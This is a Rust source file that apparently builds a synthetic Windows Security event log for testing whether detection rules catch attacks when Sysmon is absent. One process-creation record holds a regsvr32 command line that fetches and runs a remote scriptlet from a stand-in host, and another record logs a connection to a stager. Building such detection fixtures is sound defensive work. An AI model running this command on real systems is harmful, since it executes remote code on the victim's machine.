//! A log without Sysmon: the Security log speaks of the same programs, and no rule may read it.

use super::Sample;
use super::teller::{Answer, Told};
use super::words::*;
use super::ws01;
use crate::evtx::{Element, FileTime, Guid, Instance, Log, Node, Template, Value, gap};
use crate::sysmon::Source;
use std::sync::Arc;

/// Event id, what it is there for, and its data.
type Row = (u16, &'static str, Vec<(&'static str, Value)>);

/// The log.
pub fn log() -> Sample {
    let host = ws01::host();
    let events: [Row; 2] = [
        (
            4688,
            "the Security log's own record of a regsvr32 start",
            vec![
                ("SubjectUserName", "alice".into()),
                ("SubjectLogonId", Value::Hex64(ALICE.logon)),
                ("NewProcessId", Value::Hex64(0x1d0c)),
                ("NewProcessName", REGSVR32.into()),
                ("CommandLine", "regsvr32.exe /s /n /u /i:http://cdn.example/a.sct scrobj.dll".into()),
                ("ParentProcessName", WORD.into()),
            ],
        ),
        (
            5156,
            "and of a RegAsm connection",
            vec![
                ("ProcessID", Value::UInt64(0x1d0c)),
                ("Application", r"\device\harddiskvolume3\windows\microsoft.net\framework64\v4.0.30319\regasm.exe".into()),
                ("SourceAddress", "10.20.0.51".into()),
                ("DestAddress", STAGER.into()),
                ("DestPort", "443".into()),
            ],
        ),
    ];
    let mut log = Log::in_memory();
    let (mut told, mut records) = (Vec::new(), Vec::new());
    for (id, (event, what, data)) in (70_011_u64..).zip(events) {
        let written = FileTime(134_169_345_250_000_000 + id);
        let source = Source {
            provider: "Microsoft-Windows-Security-Auditing",
            guid: Guid::from_u128(0x54849625_5478_4994_a5ba_3e3b0328c30d),
            channel: "Security",
            event,
            version: 2,
            level: 0,
            task: 13_312,
            keywords: 0x8020_0000_0000_0000,
            process: 4,
            user: None,
        };
        let record = host.wrap(id, written, &source, instance(event, &data));
        log.push(&record).expect("records are short");
        records.push(record);
        let what = what.to_owned();
        told.push(Told {
            id,
            event,
            what,
            elastic: Answer::No,
            splunk: false,
            readable: true,
        });
    }
    Sample {
        name: "ws01-security.evtx",
        about: "WS01: a Security log, which holds nothing of Sysmon",
        bytes: log.into_bytes(),
        told,
        records,
        findings: Vec::new(),
    }
}

fn instance(event: u16, data: &[(&str, Value)]) -> Instance {
    let fields = data.iter().enumerate().map(|(i, (name, value))| {
        let data = Element::new("Data", vec![gap(i as u16, value.kind())]);
        Node::Element(data.with("Name", Node::Text((*name).to_owned())))
    });
    let root = Element::new("EventData", fields.collect());
    let guid = Guid::from_u128(0x6576_716c_7365_6375_8000_0000_0000_0000 | u128::from(event));
    let template = Arc::new(Template { guid, root });
    Instance {
        template,
        values: data.iter().map(|(_, value)| value.clone()).collect(),
    }
}
